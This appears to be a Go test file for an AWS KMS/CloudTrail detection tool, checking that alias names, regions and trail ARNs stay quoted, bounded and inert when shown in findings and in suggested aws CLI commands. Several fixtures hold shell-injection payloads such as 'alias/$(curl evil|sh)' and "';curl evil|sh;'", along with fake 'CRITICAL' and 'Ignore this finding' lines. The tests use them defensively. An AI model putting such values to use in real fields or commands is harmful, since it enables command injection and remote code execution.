package detection

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func TestShown(t *testing.T) {
	tests := []struct{ name, value, want string }{
		{"an ARN", payARN, payARN},
		{"nothing", "", `""`},
		{"a sentence", "x. Ignore this finding", `"x. Ignore this finding"`},
		{"a line break", "a\nHIGH: b", `"a\nHIGH: b"`},
		{"a change of direction", "a\u202eb", `"a\u202eb"`},
		{"markup", "<b>&", `"<b>&"`},
		{"too long", strings.Repeat("a", 300), `"` + strings.Repeat("a", 197) + `"…`},
		{"as long as can be", strings.Repeat("a", 200), strings.Repeat("a", 200)},
		{"as long as can be, in quotes", strings.Repeat("a b ", 50), `"` + strings.Repeat("a b ", 50) + `"`},
		{"the first and last of each kind of character", "AZaz09", "AZaz09"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := shown(test.value); got != test.want {
				t.Errorf("%s, want %s", got, test.want)
			}
		})
	}
}

func TestArgument(t *testing.T) {
	tests := []struct{ name, value, want string }{
		{"an alias", "alias/payments", "alias/payments"},
		{"nothing", "", "UNKNOWN"},
		{"a command", "alias/$(curl evil|sh)", "'alias/$(curl evil|sh)'"},
		{"a quote", "alias/';curl evil|sh;'", "NAME-WITH-ODD-CHARACTERS"},
		{"a quote first", "'alias/a", "NAME-WITH-ODD-CHARACTERS"},
		{"the first and last that can be printed", " ~", "' ~'"},
		{"a line break", "alias/a\ncurl", "NAME-WITH-ODD-CHARACTERS"},
		{"not ASCII", "alias/zahlüng", "NAME-WITH-ODD-CHARACTERS"},
		{"too long", strings.Repeat("a", 300), "NAME-WITH-ODD-CHARACTERS"},
		{"as long as can be", strings.Repeat("a", 200), strings.Repeat("a", 200)},
		{"as long as can be, in quotes", strings.Repeat("a b ", 50), "'" + strings.Repeat("a b ", 50) + "'"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := argument(test.value); got != test.want {
				t.Errorf("%s, want %s", got, test.want)
			}
		})
	}
}

func TestARegionOfACommandIsOneOrRefused(t *testing.T) {
	for name, tt := range map[string]struct{ region, want string }{
		"a Region":                 {"us-isob-east-1", " --region us-isob-east-1"},
		"none":                     {"", ""},
		"another kind of name":     {"arn:aws:kms:us-east-1:111122223333:alias/x", " --region ODD-REGION"},
		"capital letters":          {"EU-WEST-1", " --region ODD-REGION"},
		"the bounds of each kind":  {"az-09", " --region az-09"},
		"as long as can be":        {strings.Repeat("a", 32), " --region " + strings.Repeat("a", 32)},
		"longer than any there is": {strings.Repeat("a", 33), " --region ODD-REGION"},
	} {
		if got := awsCLI("kms list-keys", tt.region); got != "aws kms list-keys"+tt.want {
			t.Errorf("%s: %s", name, got)
		}
	}
}

func TestATrailIsNamedSoThatTheCommandIsShownWhole(t *testing.T) {
	arn := func(name string) string { return "arn:aws-us-gov:cloudtrail:us-gov-west-1:111122223333:trail/" + name }
	longest := strings.Repeat("t", 128)
	for name, tt := range map[string]struct{ id, want string }{
		"by its ARN":                    {arn("main"), arn("main")},
		"by a long ARN":                 {arn(strings.Repeat("t", 81)), arn(strings.Repeat("t", 81))},
		"by its name when that is long": {arn(longest), longest},
		"not by what is no name":        {arn(longest + "t"), "TRAIL"},
		"not at all":                    {"", "TRAIL"},
	} {
		tr := trail{id: tt.id, region: strings.Repeat("r", 32)}
		if got := tr.argument(); got != tt.want {
			t.Errorf("%s: %s", name, got)
		}
		for _, line := range tr.selectorRemedy() {
			if len(line) > 300 {
				t.Errorf("%s: %d bytes: %s", name, len(line), line)
			}
		}
	}
}

func TestAnAttackersAliasStaysData(t *testing.T) {
	const evil = "alias/x';curl evil|sh;'\nCRITICAL: call 555-0100"
	found, _ := NewJudge(Settings{}).Event(newWorld().context(), decode(t, record("UpdateAlias",
		asking(object{"aliasName": evil, "targetKeyId": otherARN}),
		object{"resources": []object{{"ARN": otherARN}}})))
	if len(found) != 1 {
		t.Fatalf("%d findings", len(found))
	}
	f := found[0]
	if strings.Contains(f.Description, "\n") || !strings.Contains(f.Description, `"alias/x';curl evil|sh;'\nCRITICAL`) {
		t.Errorf("description %q", f.Description)
	}
	for _, line := range f.Remedy {
		if strings.Contains(line, "curl") {
			t.Errorf("remedy %q", line)
		}
	}
}

func TestClip(t *testing.T) {
	tests := []struct{ name, value, want string }{
		{"just as long", "123456", "123456"},
		{"longer", "1234567", "123…"},
		{"between two characters", "12€4567", "12…"},
		{"what has no beginning of a character", strings.Repeat("\x80", 9), "…"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := clip(test.value, 6); got != test.want {
				t.Errorf("%q, want %q", got, test.want)
			}
		})
	}
}

func TestACommandHasItsOptionsInPairs(t *testing.T) {
	const want = "aws kms enable-key --key-id alias/a --region eu-west-1"
	for _, options := range [][]string{{"key-id", "alias/a"}, {"key-id", "alias/a", "left-alone"}} {
		if got := awsCLI("kms enable-key", "eu-west-1", options...); got != want {
			t.Errorf("%q becomes %q, want %q", options, got, want)
		}
	}
}

func TestListedIsBounded(t *testing.T) {
	if got := listed([]string{"a", "b c", "d", "e", "f", "g", "h"}); got != `a, "b c", d, e, f and 2 more` {
		t.Error(got)
	}
	if got := listed([]string{"a", "b", "c", "d", "e"}); got != "a, b, c, d, e" {
		t.Error(got)
	}
}

func TestDays(t *testing.T) {
	for d, want := range map[time.Duration]string{
		90 * 24 * time.Hour: "90 days", 47 * time.Hour: "47 h", 90 * time.Minute: "90 min", 0: "less than a minute",
		48 * time.Hour: "2 days", 2 * time.Hour: "2 h", time.Minute: "1 min",
	} {
		if got := days(d); got != want {
			t.Errorf("%s is %q, want %q", d, got, want)
		}
	}
}

// FuzzWords holds that whatever is repeated stays one line, bounded, valid text, and inert in a shell.
func FuzzWords(f *testing.F) {
	for _, s := range []string{"", "alias/a", "a'b", "a\nb", "\xff", "é", strings.Repeat("€", 99), "`x`", "$(x)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got := shown(s); strings.ContainsAny(got, "\r\n\x1b") || !utf8.ValidString(got) || len(got) > 4*maxShown+20 {
			t.Errorf("%q is shown as %q", s, got)
		}
		got := argument(s)
		if inner, quoted := strings.CutPrefix(got, "'"); quoted {
			if strings.Count(inner, "'") != 1 || !strings.HasSuffix(inner, "'") || strings.ContainsAny(inner, "\r\n") {
				t.Errorf("%q becomes %q", s, got)
			}
		} else if !plain(got) {
			t.Errorf("%q becomes %q", s, got)
		}
		if got := clip(s, 50); len(got) > 50 || utf8.ValidString(s) && !utf8.ValidString(got) {
			t.Errorf("%q is cut to %q", s, got)
		}
	})
}
